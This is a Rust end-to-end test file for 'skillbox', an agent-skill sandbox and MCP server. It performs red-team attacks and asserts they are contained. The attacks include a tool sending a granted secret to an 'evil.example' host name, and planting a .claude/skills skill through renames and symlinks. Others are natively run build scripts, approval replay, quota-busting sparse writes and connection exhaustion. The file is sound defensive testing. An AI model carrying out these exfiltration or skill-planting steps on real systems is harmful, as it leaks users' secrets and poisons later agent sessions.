//! The attacks a red team made around the sandbox, each performed for
//! real and shown contained (docs/security.md lists them with their rows).

use std::net::SocketAddr;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use serde_json::{Value, json};
use skillbox_e2e::mcp::{
    Recorder, call, connect_stateless, sample, scrape, serve_http, serve_http_with_env,
};
use skillbox_e2e::{Run, component, skillbox, workspace};
use skillbox_sandbox::{EngineOptions, Grants, Limits, MIB, Sandbox, SandboxError, WorkspaceGrant};

/// A downloaded skill whose tool crate has a `build.rs`: `skillbox build`
/// would run it natively, as the user. It runs only once the user says
/// they trust the folder.
#[test]
fn a_downloaded_skills_build_script_runs_only_when_the_user_trusts_it() {
    let root = tempfile::tempdir().unwrap();
    let skill = root.path().join("downloaded");
    let marker = root.path().join("build-script-ran");
    let files = [
        (
            "SKILL.md",
            "---\nname: downloaded\ndescription: A skill from somewhere else; use only in skillbox's tests.\n---\nDo nothing.\n".to_string(),
        ),
        ("skillbox.yaml", "tools:\n  - component: tools/downloaded.wasm\n".to_string()),
        (
            "tool/Cargo.toml",
            "[package]\nname = \"downloaded\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[lib]\ncrate-type = [\"cdylib\"]\n\n[workspace]\n".to_string(),
        ),
        (
            "tool/build.rs",
            format!(
                "fn main() {{ std::fs::write({:?}, \"ran natively\").unwrap(); }}\n",
                marker.display().to_string()
            ),
        ),
        ("tool/src/lib.rs", "#[no_mangle]\npub extern \"C\" fn nothing() {}\n".to_string()),
    ];
    for (rel, text) in files {
        let path = skill.join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    // Not created by `skillbox new` here, and no terminal to ask: refused.
    let refused: Run = skillbox().arg("build").arg(&skill).output().unwrap().into();
    assert_eq!(refused.code, 1, "{refused:?}");
    refused.stderr_says(&["natively", "--trust-build", "Nothing was built"]);
    assert!(
        !marker.exists(),
        "the build script ran without the user's trust"
    );

    // The user read it and trusts it: cargo runs the build script.
    let trusted: Run = skillbox()
        .args(["build", "--trust-build"])
        .arg(&skill)
        .output()
        .unwrap()
        .into();
    assert!(marker.exists(), "--trust-build did not build: {trusted:?}");
    trusted.stderr_says(&["natively"]);
}

// ---------------------------------------------------------------------
// Shared fixtures.

/// A skill `attack` under `root` whose tools are the testbed's attack
/// functions, requesting `grants`.
fn attack_skill(root: &Path, grants: &str) {
    let dir = root.join("attack");
    std::fs::create_dir_all(dir.join("tools")).unwrap();
    std::fs::write(
        dir.join("SKILL.md"),
        "---\nname: attack\ndescription: Red-team fixture for the host's own tests; never for real work.\n---\nUse the tools.\n",
    )
    .unwrap();
    let functions = [
        "exfiltrate",
        "fetch-then-fail",
        "fetch",
        "write-file",
        "fs-steps",
    ]
    .iter()
    .map(|f| format!("      {f}:\n        description: Red-team fixture. Not for real work.\n        effect: write\n"))
    .collect::<String>();
    std::fs::write(
        dir.join("skillbox.yaml"),
        format!(
            "tools:\n  - component: tools/testbed.wasm\n    functions:\n{functions}grants:\n{grants}limits:\n  timeout-ms: 5000\n  fuel: 60000000000\n"
        ),
    )
    .unwrap();
    std::fs::copy(component("testbed"), dir.join("tools/testbed.wasm")).unwrap();
}

/// A web server on loopback that counts the requests it was sent, served
/// by the test's own runtime.
struct CountingSite {
    addr: SocketAddr,
    hits: Arc<AtomicUsize>,
}

async fn counting_site() -> CountingSite {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let hits = Arc::new(AtomicUsize::new(0));
    let counter = hits.clone();
    let app = axum::Router::new().fallback(move || {
        counter.fetch_add(1, Ordering::SeqCst);
        async { "received" }
    });
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    CountingSite { addr, hits }
}

fn audit_lines(audit: &Path) -> Vec<Value> {
    std::fs::read_to_string(audit)
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

// ---------------------------------------------------------------------
// Rows 2 and 3: a granted secret put into a URL's host name.

const SECRET: &str = "S3cretTokenValue";

#[tokio::test]
async fn a_secret_put_into_a_host_name_reaches_no_sink() {
    let skills = tempfile::tempdir().unwrap();
    attack_skill(skills.path(), "  env: [TOKEN]\n  network: [\"*\"]\n");
    let site = counting_site().await;
    let state = tempfile::tempdir().unwrap();
    let audit = state.path().join("audit.jsonl");
    let grant = format!("attack:127.0.0.1:{}", site.addr.port());
    let (_server, url) = serve_http_with_env(
        &[
            "--skills",
            skills.path().to_str().unwrap(),
            "--tools",
            "all",
            "--allow-env",
            "attack:TOKEN",
            "--allow-net",
            &grant,
            "--audit",
            audit.to_str().unwrap(),
        ],
        &[("TOKEN", SECRET)],
    );
    let client = connect_stateless(Recorder::default(), &url).await;
    // The guest swallows the refusal and returns: the refusal's note is
    // what the model reads.
    let swallowed = call(
        &client,
        "attack__exfiltrate",
        json!({"key": "TOKEN", "url": "http://{}.evil.example/"}),
    )
    .await;
    // The same, but the guest then fails: the refusal becomes the error.
    let failed = call(
        &client,
        "attack__fetch-then-fail",
        json!({"url": format!("http://{}.evil.example/", SECRET.to_lowercase()), "how": "err"}),
    )
    .await;
    client.cancel().await.unwrap();

    let lowered = SECRET.to_ascii_lowercase();
    for result in [&swallowed, &failed] {
        let everything = serde_json::to_string(result).unwrap().to_ascii_lowercase();
        assert!(
            !everything.contains(&lowered),
            "the secret reached the model: {everything}"
        );
    }
    for (result, failed) in [(&swallowed, false), (&failed, true)] {
        assert_eq!(result.is_error == Some(true), failed, "{result:?}");
        let said = serde_json::to_string(&result.content).unwrap();
        assert!(
            said.contains("[redacted:TOKEN]") && said.contains("not granted"),
            "{said}"
        );
    }

    let lines = audit_lines(&audit);
    let calls: Vec<&Value> = lines
        .iter()
        .filter(|l| {
            l["tool"]
                .as_str()
                .is_some_and(|t| t.starts_with("attack__"))
        })
        .collect();
    assert_eq!(calls.len(), 2, "{lines:?}");
    for line in &calls {
        let text = line.to_string().to_ascii_lowercase();
        assert!(
            !text.contains(&lowered),
            "the audit log holds the secret: {text}"
        );
        assert!(
            line["network"][0]["host"]
                .as_str()
                .is_some_and(|h| h.contains("[redacted:TOKEN]")),
            "{line}"
        );
    }
    assert_eq!(site.hits.load(Ordering::SeqCst), 0);
}

// ---------------------------------------------------------------------
// Row 4: a guest that fails after sending leaves a trace all the same.

#[tokio::test]
async fn a_call_that_fails_after_sending_still_records_what_it_sent() {
    let skills = tempfile::tempdir().unwrap();
    attack_skill(skills.path(), "  network: [\"*\"]\n");
    let site = counting_site().await;
    let state = tempfile::tempdir().unwrap();
    let audit = state.path().join("audit.jsonl");
    let grant = format!("attack:127.0.0.1:{}", site.addr.port());
    let (_server, url) = serve_http(&[
        "--skills",
        skills.path().to_str().unwrap(),
        "--tools",
        "all",
        "--allow-net",
        &grant,
        "--audit",
        audit.to_str().unwrap(),
    ]);
    let client = connect_stateless(Recorder::default(), &url).await;
    let target = format!("http://127.0.0.1:{}/upload?data=x", site.addr.port());
    for how in ["err", "trap", "spin"] {
        let result = call(
            &client,
            "attack__fetch-then-fail",
            json!({"url": target, "how": how}),
        )
        .await;
        assert_eq!(result.is_error, Some(true), "{how}: {result:?}");
    }
    client.cancel().await.unwrap();
    assert_eq!(site.hits.load(Ordering::SeqCst), 3, "every request arrived");

    let outcomes: Vec<(String, Value)> = audit_lines(&audit)
        .into_iter()
        .filter(|l| l["tool"] == "attack__fetch-then-fail")
        .map(|l| {
            (
                l["outcome"].as_str().unwrap().to_string(),
                l["network"].clone(),
            )
        })
        .collect();
    let codes: Vec<&str> = outcomes.iter().map(|(o, _)| o.as_str()).collect();
    assert_eq!(codes, ["tool_error", "trap", "timeout"], "{outcomes:?}");
    for (outcome, network) in &outcomes {
        assert_eq!(network[0]["host"], "127.0.0.1", "{outcome}: {network}");
        assert_eq!(network[0]["outcome"], "ok", "{outcome}: {network}");
    }
    let scrape = scrape(&url, None).await;
    assert_eq!(
        sample(
            &scrape,
            "skillbox_egress_requests_total",
            &[("outcome", "ok")]
        ),
        Some(3.0)
    );
}

// ---------------------------------------------------------------------
// Row 6: a write-granted tool plants a project skill.

#[tokio::test]
async fn a_tool_cannot_plant_a_project_skill() {
    let sandbox = Sandbox::with_options(&EngineOptions::default(), None).unwrap();
    let testbed = sandbox.load_file(&component("testbed")).unwrap();
    let ws = workspace(&[("notes.txt", "mine")]);
    let grants = Grants {
        workspace: Some(WorkspaceGrant {
            host_dir: ws.path().to_path_buf(),
            writable: true,
        }),
        ..Grants::default()
    };
    let steps = |steps: &[&str]| {
        let steps: Vec<String> = steps.iter().map(|s| s.to_string()).collect();
        let (sandbox, testbed, grants) = (&sandbox, &testbed, &grants);
        async move {
            let out = sandbox
                .call(
                    testbed,
                    "fs-steps",
                    &json!({ "steps": steps }),
                    grants,
                    &Limits::default(),
                )
                .await
                .unwrap();
            let said: Vec<String> = serde_json::from_value(out.value).unwrap();
            (said, out.refusals)
        }
    };
    let skill =
        "write /workspace/.claude/skills/x/SKILL.md ---\nname: x\ndescription: planted\n---\n";

    // Straight in, where neither folder exists yet.
    let (said, refusals) = steps(&[
        "mkdir /workspace/.claude/skills/x",
        "mkdir /workspace/.agents/skills/x",
        "mkdir /workspace/sub/project/.claude/skills",
    ])
    .await;
    assert!(said.iter().all(|s| s != "ok"), "{said:?}");
    assert!(refusals[0].contains(".claude/skills"), "{refusals:?}");
    assert!(
        !refusals[0].contains(&*ws.path().to_string_lossy()),
        "no host path: {refusals:?}"
    );

    // Assembled elsewhere and renamed in; through a link; by name.
    let (said, _) = steps(&[
        "mkdir /workspace/staging/skills/x",
        "write /workspace/staging/skills/x/SKILL.md planted",
        "rename /workspace/staging /workspace/.claude",
        "symlink staging /workspace/.agents",
        "mkdir /workspace/.claude",
        "symlink .claude /workspace/innocent",
        "symlink .claude/skills /workspace/deeper",
        "mkdir /workspace/.claude/skills",
    ])
    .await;
    assert_eq!(said[0], "ok", "{said:?}");
    assert_eq!(said[1], "ok", "{said:?}");
    assert_ne!(said[2], "ok", "renamed in: {said:?}");
    assert_ne!(said[3], "ok", "a link named .agents: {said:?}");
    assert_eq!(
        said[4], "ok",
        "a plain .claude folder is the project's own: {said:?}"
    );
    assert_ne!(said[5], "ok", "a link into .claude: {said:?}");
    assert_ne!(said[6], "ok", "{said:?}");
    assert_ne!(said[7], "ok", "{said:?}");

    // A link the user made earlier does not lead a write in either.
    std::os::unix::fs::symlink(".claude", ws.path().join("users-link")).unwrap();
    let (said, _) = steps(&[
        "mkdir /workspace/users-link/skills/x",
        &skill.replace(".claude", "users-link"),
    ])
    .await;
    assert!(said.iter().all(|s| s != "ok"), "{said:?}");

    // The project's own files beside them stay writable.
    let (said, _) = steps(&[
        "write /workspace/.claude/settings.json {}",
        "write /workspace/notes.txt changed",
    ])
    .await;
    assert_eq!(said, ["ok", "ok"]);
    assert!(!ws.path().join(".claude/skills").exists());
    assert!(!ws.path().join(".agents/skills").exists());

    // A later --trust-project run finds nothing planted.
    let listed: Run = skillbox()
        .args(["skills", "list", "--trust-project", "--json"])
        .current_dir(ws.path())
        .output()
        .unwrap()
        .into();
    assert!(!listed.stdout.contains("planted"), "{listed:?}");
}

// ---------------------------------------------------------------------
// Row 9: a sparse write far past the end.

#[tokio::test]
async fn a_sparse_write_is_charged_for_the_size_it_makes() {
    let sandbox = Sandbox::with_options(&EngineOptions::default(), None).unwrap();
    let testbed = sandbox.load_file(&component("testbed")).unwrap();
    let ws = workspace(&[]);
    let grants = Grants {
        workspace: Some(WorkspaceGrant {
            host_dir: ws.path().to_path_buf(),
            writable: true,
        }),
        ..Grants::default()
    };
    let limits = Limits {
        workspace_bytes: 4 * MIB as u64,
        ..Limits::default()
    };
    const TIB: u64 = 1 << 40;
    for (function, args) in [
        (
            "write-at",
            json!({"path": "/workspace/sparse", "offset": TIB, "data": "x"}),
        ),
        (
            "write-at",
            json!({"path": "/tmp/sparse", "offset": TIB, "data": "x"}),
        ),
        ("set-len", json!({"path": "/workspace/long", "size": TIB})),
        ("set-len", json!({"path": "/tmp/long", "size": TIB})),
    ] {
        let err = sandbox
            .call(&testbed, function, &args, &grants, &limits)
            .await
            .unwrap_err();
        assert!(
            matches!(err, SandboxError::Quota { .. }),
            "{function} {args}: {err}"
        );
    }
    for name in ["sparse", "long"] {
        let size = std::fs::metadata(ws.path().join(name)).map_or(0, |m| m.len());
        assert!(size < MIB as u64, "{name} is {size} bytes");
    }
    // Within the quota, a sparse write is fine and counted by its size.
    let ok = sandbox
        .call(
            &testbed,
            "write-at",
            &json!({"path": "/workspace/sparse", "offset": 3 * MIB, "data": "x"}),
            &grants,
            &limits,
        )
        .await
        .unwrap();
    assert_eq!(ok.value, json!(3 * MIB + 1));
}

// ---------------------------------------------------------------------
// Row 1: one client holding event streams and connections.

/// Opens a 2025-11-25 session over HTTP; its id.
async fn open_session(http: &reqwest::Client, url: &str) -> String {
    let init = http
        .post(url)
        .header("accept", "application/json, text/event-stream")
        .json(
            &json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
                "protocolVersion": "2025-11-25", "capabilities": {},
                "clientInfo": {"name": "red-team", "version": "1"}
            }}),
        )
        .send()
        .await
        .expect("initialize");
    assert_eq!(init.status(), 200, "initialize");
    let session = init.headers()["mcp-session-id"]
        .to_str()
        .unwrap()
        .to_string();
    let _ = init.bytes().await;
    let done = http
        .post(url)
        .header("accept", "application/json, text/event-stream")
        .header("mcp-session-id", &session)
        .json(&json!({"jsonrpc": "2.0", "method": "notifications/initialized"}))
        .send()
        .await
        .expect("initialized");
    assert!(done.status().is_success(), "{}", done.status());
    session
}

/// `GET /mcp`: a session's standalone event stream.
async fn open_stream(http: &reqwest::Client, url: &str, session: &str) -> reqwest::Response {
    http.get(url)
        .header("accept", "text/event-stream")
        .header("mcp-session-id", session)
        .send()
        .await
        .expect("GET /mcp")
}

#[tokio::test]
async fn one_client_holding_streams_leaves_room_for_everyone_else() {
    let (_server, url) = serve_http(&["--max-connections", "8", "--max-streams-per-client", "3"]);
    let base = url.trim_end_matches("/mcp").to_string();
    let greedy = reqwest::Client::new();
    // As many streams as the listener has connections: the old limit.
    let mut held = Vec::new();
    let mut refused = Vec::new();
    for _ in 0..8 {
        let session = open_session(&greedy, &url).await;
        let stream = open_stream(&greedy, &url, &session).await;
        if stream.status() == 200 {
            held.push((session, stream));
        } else {
            refused.push((stream.status(), stream.text().await.unwrap()));
        }
    }
    assert_eq!(
        held.len(),
        3,
        "one client's streams are capped: {refused:?}"
    );
    for (status, body) in &refused {
        assert_eq!(*status, 429, "{body}");
        assert!(body.contains("--max-streams-per-client"), "{body}");
    }
    // One stream per session.
    let again = open_stream(&greedy, &url, &held[0].0).await;
    assert_eq!(again.status(), 409, "{:?}", again.text().await);

    // The greedy address has used its share of connections; its probes
    // are still answered.
    let probe = greedy.get(format!("{base}/healthz")).send().await.unwrap();
    assert_eq!(probe.status(), 200);

    // It also opens every connection it can and sends nothing.
    let addr = base.trim_start_matches("http://").to_string();
    let _idle: Vec<std::net::TcpStream> = (0..8)
        .map(|_| std::net::TcpStream::connect(&addr).unwrap())
        .collect();

    // Another client is served at once, in full.
    let other = reqwest::Client::builder()
        .local_address(Some("127.0.0.2".parse().unwrap()))
        .timeout(std::time::Duration::from_secs(5))
        .build()
        .unwrap();
    let health = other.get(format!("{base}/healthz")).send().await.unwrap();
    assert_eq!(health.status(), 200);
    let ready = other.get(format!("{base}/readyz")).send().await.unwrap();
    assert!(
        ready.status() == 200 || ready.status() == 503,
        "answered: {}",
        ready.status()
    );
    let session = open_session(&other, &url).await;
    assert!(!session.is_empty());
    drop(held);
}

#[tokio::test]
async fn an_event_stream_that_sends_nothing_is_ended() {
    let (_server, url) = serve_http(&["--stream-idle-secs", "1"]);
    let http = reqwest::Client::new();
    let session = open_session(&http, &url).await;
    let mut stream = open_stream(&http, &url, &session).await;
    assert_eq!(stream.status(), 200);
    // Keep-alives (every 15 s) do not keep it open; it ends, and the
    // session can open a new one.
    let ended = tokio::time::timeout(std::time::Duration::from_secs(60), async {
        while let Ok(Some(_)) = stream.chunk().await {}
    })
    .await;
    assert!(ended.is_ok(), "the idle stream was never ended");
    let reopened = open_stream(&http, &url, &session).await;
    assert_eq!(reopened.status(), 200);
}

// ---------------------------------------------------------------------
// Row 7: an approval replayed, carried to another client, or presented
// by a client that cannot ask.

/// A stateless `tools/call` from `http`, with `meta` merged into `_meta`
/// and `extra` into the params; the JSON-RPC result.
async fn stateless_write(
    http: &reqwest::Client,
    url: &str,
    contents: &str,
    caps: Value,
    extra: Value,
) -> Value {
    let mut params = json!({
        "name": "testkit__write-file",
        "arguments": {"path": "/workspace/out.txt", "contents": contents},
    });
    if let (Some(p), Value::Object(extra)) = (params.as_object_mut(), extra) {
        p.extend(extra);
    }
    let reply: Value = skillbox_e2e::mcp::stateless_request(
        http,
        url,
        "tools/call",
        params,
        json!({"io.modelcontextprotocol/clientCapabilities": caps}),
    )
    .send()
    .await
    .unwrap()
    .json()
    .await
    .unwrap();
    reply["result"].clone()
}

#[tokio::test]
async fn an_approval_is_spent_once_by_the_client_asked() {
    let kit = skillbox_e2e::testkit_skills();
    let ws = workspace(&[]);
    let (_server, url) = serve_http(&[
        "--skills",
        kit.path().to_str().unwrap(),
        "--tools",
        "all",
        "--workspace",
        ws.path().to_str().unwrap(),
        "--allow-write",
        "--confirm",
        "write",
    ]);
    let out = ws.path().join("out.txt");
    let can_ask = json!({"elicitation": {}});
    let asker = reqwest::Client::new();
    let yes = json!({"confirm": {"action": "accept", "content": {"approve": true}}});
    let ask = |contents: &'static str| {
        let (asker, url, can_ask) = (&asker, &url, &can_ask);
        async move {
            let asked = stateless_write(asker, url, contents, can_ask.clone(), json!({})).await;
            asked["requestState"]
                .as_str()
                .unwrap_or_else(|| panic!("a question: {asked}"))
                .to_string()
        }
    };
    let answer = |state: &str| json!({"inputResponses": yes, "requestState": state});

    // Asked and answered: it runs once.
    let state = ask("approved").await;
    let done = stateless_write(&asker, &url, "approved", can_ask.clone(), answer(&state)).await;
    assert_ne!(done["isError"], true, "{done}");
    assert_eq!(std::fs::read_to_string(&out).unwrap(), "approved");
    std::fs::remove_file(&out).unwrap();

    // The same answer again: asked again, nothing runs.
    let replayed = stateless_write(&asker, &url, "approved", can_ask.clone(), answer(&state)).await;
    assert!(
        replayed["requestState"].is_string(),
        "a replay must be asked again: {replayed}"
    );
    assert!(!out.exists(), "a replayed approval ran the call again");

    // Another client presents an answer it was never asked for.
    let carried_state = ask("for another").await;
    let other = reqwest::Client::builder()
        .local_address(Some("127.0.0.2".parse().unwrap()))
        .build()
        .unwrap();
    let carried = stateless_write(
        &other,
        &url,
        "for another",
        can_ask.clone(),
        answer(&carried_state),
    )
    .await;
    assert!(carried["requestState"].is_string(), "{carried}");
    assert!(
        !out.exists(),
        "an approval ran for a client that was not asked"
    );

    // A client that declared no elicitation cannot present one at all.
    let state = ask("no elicitation").await;
    let unasked = stateless_write(&asker, &url, "no elicitation", json!({}), answer(&state)).await;
    assert_eq!(unasked["isError"], true, "{unasked}");
    assert!(
        unasked.to_string().contains("cannot ask the user"),
        "{unasked}"
    );
    assert!(!out.exists());

    // The answer the other client could not use is still good for the
    // client that was asked.
    let done = stateless_write(&asker, &url, "for another", can_ask, answer(&carried_state)).await;
    assert_ne!(done["isError"], true, "{done}");
    assert_eq!(std::fs::read_to_string(&out).unwrap(), "for another");
}

// ---------------------------------------------------------------------
// Row 8: a session's request claims another revision in `_meta`.

#[tokio::test]
async fn a_sessions_revision_cannot_be_switched_by_meta() {
    let kit = skillbox_e2e::testkit_skills();
    let (_server, url) = serve_http(&["--skills", kit.path().to_str().unwrap()]);
    let http = reqwest::Client::new();
    let session = open_session(&http, &url).await;
    let call_noop = |meta: Value| {
        let (http, url, session) = (&http, &url, &session);
        let claimed = meta
            .get("io.modelcontextprotocol/protocolVersion")
            .and_then(Value::as_str)
            .unwrap_or("2025-11-25")
            .to_string();
        async move {
            let response = http
                .post(url.as_str())
                .header("accept", "application/json, text/event-stream")
                .header("mcp-session-id", session.as_str())
                .header("mcp-protocol-version", claimed)
                .header("mcp-method", "tools/call")
                .header("mcp-name", "testkit__noop")
                .json(
                    &json!({"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {
                        "name": "testkit__noop", "arguments": {}, "_meta": meta
                    }}),
                )
                .send()
                .await
                .unwrap();
            let status = response.status();
            (status, sse_json(&response.text().await.unwrap()))
        }
    };
    // Lazy mode: a skill's tools run only after load_skill.
    let (_, reply) = call_noop(json!({})).await;
    let text = reply.to_string();
    assert!(
        text.contains("load_skill") && !text.contains("42"),
        "{text}"
    );
    // The same request claiming the stateless revision is refused, not run
    // outside the session's rules.
    let (status, reply) = call_noop(json!({
        "io.modelcontextprotocol/protocolVersion": "2026-07-28",
        "io.modelcontextprotocol/clientCapabilities": {},
        "io.modelcontextprotocol/clientInfo": {"name": "red-team", "version": "1"},
    }))
    .await;
    assert_eq!(status, 400, "{reply}");
    assert_eq!(reply["error"]["code"], -32600, "{reply}");
    assert!(
        reply.to_string().contains("revision its initialize chose"),
        "{reply}"
    );
    // The session goes on under its own rules.
    let (_, reply) = call_noop(json!({})).await;
    assert!(reply.to_string().contains("load_skill"), "{reply}");
}

/// The JSON-RPC message in a reply body, sent as JSON or as one SSE event.
fn sse_json(body: &str) -> Value {
    if let Ok(value) = serde_json::from_str(body) {
        return value;
    }
    body.lines()
        .filter_map(|l| l.strip_prefix("data:"))
        .filter_map(|d| serde_json::from_str::<Value>(d.trim()).ok())
        .find(|v| v.get("id").is_some())
        .unwrap_or_else(|| panic!("no JSON-RPC reply in {body}"))
}
